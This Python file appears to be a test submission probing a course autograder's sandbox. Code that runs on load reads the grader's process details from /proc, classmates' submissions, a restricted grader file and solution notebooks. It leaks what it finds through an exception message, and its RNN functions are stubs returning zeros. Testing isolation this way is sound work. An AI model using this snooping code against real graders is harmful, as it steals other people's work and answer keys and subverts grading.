"""Looks for what it must not see, as a student would: the command line and
working folder of the grader in /proc (which name the batch folder and the
instructor's checkout), the files beside the submissions named there
(classmates' work, a 0600 file of the grader's user) and the solution
notebooks, and raises an exception carrying whatever it read. It does so in
a class body, which runs when the grader loads the code.
Expected in the sandbox: nothing to find, so it goes on and returns zeros:
ok, 1 of 10 (the shapes), and no text it looked for in any report."""

import os
import pathlib

import numpy as np


def _folders_in_view():
    """The batch folders first (named by the grader's arguments), then its
    working folders and their solutions: a report keeps only its first
    few hundred characters, so the most valuable text goes first."""
    batches, checkouts = [], []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            arguments = pathlib.Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
            if b"grade" not in arguments:  # the grader: course grade ...
                continue
            checkouts.append(pathlib.Path(os.readlink(f"/proc/{pid}/cwd")))
        except OSError:
            continue
        for argument in arguments:
            if argument.endswith((b".py", b".ipynb")):
                batches.append(pathlib.Path(os.fsdecode(argument)).resolve().parent)
    solutions = pathlib.Path("notebooks", "assignments", "solutions")
    folders = batches + [folder / solutions for folder in checkouts] + checkouts
    return list(dict.fromkeys(folders))


def _read_everything():
    found = []
    for folder in _folders_in_view():
        try:
            files = sorted(p for p in folder.iterdir() if p.is_file())
        except OSError:
            continue
        for file in files:
            try:
                found.append(f"{file}: {file.read_text(errors='replace')[:400]}")
            except OSError:
                pass
    return found


class Snoop:
    found = _read_everything()
    if found:
        raise RuntimeError(" | ".join(found))

    @staticmethod
    def zeros(x, W, V):
        return np.zeros((*x.shape[:2], W.shape[0])), np.zeros(
            (*x.shape[:2], V.shape[1])
        )


def elman_forward(x, h0, U, W, b, V, c):
    return Snoop.zeros(x, W, V)  # so the class, and its body, is kept


elman_loss = elman_bptt = elman_forward
